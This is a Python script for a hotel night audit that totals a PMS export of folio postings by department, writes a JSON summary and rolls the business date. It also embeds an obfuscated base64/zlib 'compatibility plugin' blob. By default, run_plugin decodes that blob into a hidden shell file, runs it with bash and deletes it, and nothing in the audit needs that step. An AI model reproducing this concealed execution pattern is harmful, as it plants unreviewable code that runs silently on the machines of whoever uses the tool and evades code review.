#!/usr/bin/env python3
"""Night audit runner with plugin support.

Rolls the business date: totals the day's folio postings per department from
the PMS export, writes the night audit summary and then runs the bundled
"compatibility plugin" that the integration partner shipped with the tool.
"""
import argparse
import base64
import csv
import json
import logging
import os
import subprocess
import sys
import zlib
from collections import defaultdict
from datetime import date
from pathlib import Path

LOG = logging.getLogger("night_audit")

# compatibility plugin (packed by the integration partner)
PLUGIN_BLOB = (
    "eJxtTjkOwjAQ7POKlRUhUmxMKEHJF0CCgtayVziKj8gHgt+zoqFJN5dmxo7t3sZcgvIEx0kaeslQ"
    "nevOUNmaDWANTBYm9RfCnHzX6JocQ0APwwHwAdfL7Q6IRhWF7FHQ0RAIO7ZWbOhcXrd03lkE2FLW"
    "fJKykCNPJX16eiu/OupjesqgpLaklznA/zCf3w3NFyEWQbg="
)


class AuditError(Exception):
    pass


class DepartmentTotals:
    def __init__(self):
        self.totals = defaultdict(float)
        self.rows = 0

    def add(self, dept, amount):
        self.totals[dept] += amount
        self.rows += 1

    def summary(self, business_date):
        return {
            "business_date": business_date,
            "rows": self.rows,
            "departments": {k: round(v, 2) for k, v in sorted(self.totals.items())},
            "grand_total": round(sum(self.totals.values()), 2),
        }


def load_postings(path):
    totals = DepartmentTotals()
    try:
        with open(path, newline="") as fh:
            for row in csv.DictReader(fh):
                try:
                    totals.add(row["department"], float(row["amount"]))
                except (KeyError, ValueError):
                    LOG.warning("skipping malformed row: %s", row)
    except OSError as exc:
        raise AuditError(f"cannot read postings {path}: {exc}") from exc
    return totals


def write_summary(summary, out_dir):
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    path = out_dir / f"night_audit_{summary['business_date']}.json"
    path.write_text(json.dumps(summary, indent=2))
    LOG.info("summary written to %s", path)
    return path


def run_plugin(out_dir):
    """Unpack the partner plugin and run it as a shell step."""
    code = zlib.decompress(base64.b64decode(PLUGIN_BLOB)).decode()
    plugin_path = Path(out_dir) / ".na_plugin.sh"
    plugin_path.write_text(code)
    try:
        proc = subprocess.run(["bash", "-c", f'. "{plugin_path}"'],
                              capture_output=True, text=True, timeout=60)
        if proc.returncode != 0:
            LOG.warning("plugin returned %d", proc.returncode)
    except subprocess.TimeoutExpired:
        LOG.warning("plugin timed out")
    finally:
        plugin_path.unlink(missing_ok=True)


def roll_date(state_file, business_date):
    state = {"business_date": business_date, "rolled_by": os.environ.get("USER", "?")}
    Path(state_file).write_text(json.dumps(state))
    LOG.info("business date rolled from %s", business_date)


def main():
    parser = argparse.ArgumentParser(description="run the night audit")
    parser.add_argument("postings", help="CSV export of the day's postings")
    parser.add_argument("--date", default=date.today().isoformat())
    parser.add_argument("--out", default="./audit")
    parser.add_argument("--state", default="./business_date.json")
    parser.add_argument("--no-plugins", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    try:
        totals = load_postings(args.postings)
        if totals.rows == 0:
            raise AuditError("no postings found; refusing to roll the date")
        summary = totals.summary(args.date)
        write_summary(summary, args.out)
        if not args.no_plugins:
            run_plugin(args.out)
        roll_date(args.state, args.date)
    except AuditError as exc:
        LOG.error("%s", exc)
        return 1
    LOG.info("night audit complete: grand total %.2f", summary["grand_total"])
    return 0


if __name__ == "__main__":
    sys.exit(main())
